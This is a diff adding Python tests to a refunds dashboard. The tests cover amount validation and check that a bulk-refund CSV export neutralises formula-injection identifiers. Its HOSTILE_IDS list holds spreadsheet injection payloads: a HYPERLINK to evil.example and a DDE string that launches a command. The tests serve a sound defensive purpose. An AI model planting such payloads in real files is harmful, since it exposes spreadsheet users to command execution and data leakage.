@@ -104,6 +104,12 @@ def test_errors_are_explained_and_nothing_is_sent(
     at.text_area(key="refunds.reason").input("x")
     at.button(key="refunds.start").click().run()
     assert "소수점 없이" in _texts(at)
+    for typed in ["0,05", "1e100", "1,00,000"]:  # a form error, never 5 or 100000 or a crash
+        at.text_input(key="refunds.amount").input(typed)
+        at.button(key="refunds.start").click().run()
+        assert not at.exception, at.exception
+        assert "소수점 없이" in _texts(at), typed
+        assert "refunds.single.intent" not in at.session_state or at.session_state["refunds.single.intent"] is None
     at.text_input(key="refunds.amount").input("60000")
     at.button(key="refunds.start").click().run()
     assert "환불 가능 금액 ₩50,000보다 큽니다" in _texts(at)
@@ -218,3 +224,41 @@ def test_english(open_app: Callable[..., AppTest]) -> None:
     at.switch_page("pages/refunds.py").run()
     assert at.title[0].value == "Refunds"
     assert "No refund requests are waiting" in _texts(at)
+
+
+HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?x","click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
+
+
+def test_bulk_results_csv_neutralises_uploaded_identifiers(
+    open_app: Callable[..., AppTest], dashboard_runtime: Runtime, sandbox: SandboxControl
+) -> None:
+    """The results CSV echoes what was uploaded: it goes through the exports' formula-safe writer."""
+    import csv as csvlib
+    import io
+
+    from dashboard import components as ui
+
+    imp_uid, _ = _paid(dashboard_runtime, sandbox)
+    upload = io.StringIO()
+    writer = csvlib.writer(upload)
+    writer.writerow(["imp_uid", "amount"])
+    writer.writerow([imp_uid, "1,000"])
+    for hostile in HOSTILE_IDS:
+        writer.writerow([hostile, ""])
+    at = _open(open_app, "operator")
+    at.file_uploader(key="refunds.bulk_file").set_value(("r.csv", upload.getvalue().encode("utf-8-sig"), "text/csv"))
+    at.text_input(key="refunds.bulk_reason").input("일괄 환불")
+    at.run()
+    at.button(key="refunds.bulk_preview_button").click().run()
+    at.button(key="refunds.bulk_start").click().run()
+    at.button(key="refunds.bulk.confirm").click().run()
+    assert not at.exception, at.exception
+    results = _frame(at, "결과")  # the frame the page hands to its download button
+    assert list(results["결과"]) == ["환불 완료"] + ["결제 없음"] * len(HOSTILE_IDS)
+    data = ui.csv_bytes(results)
+    assert data.startswith("\ufeff".encode())
+    rows = list(csvlib.reader(io.StringIO(data.decode("utf-8-sig"))))
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], rows
+    identifiers = [row[1] for row in rows[1:]]
+    assert identifiers == [imp_uid] + ["'" + hostile for hostile in HOSTILE_IDS]
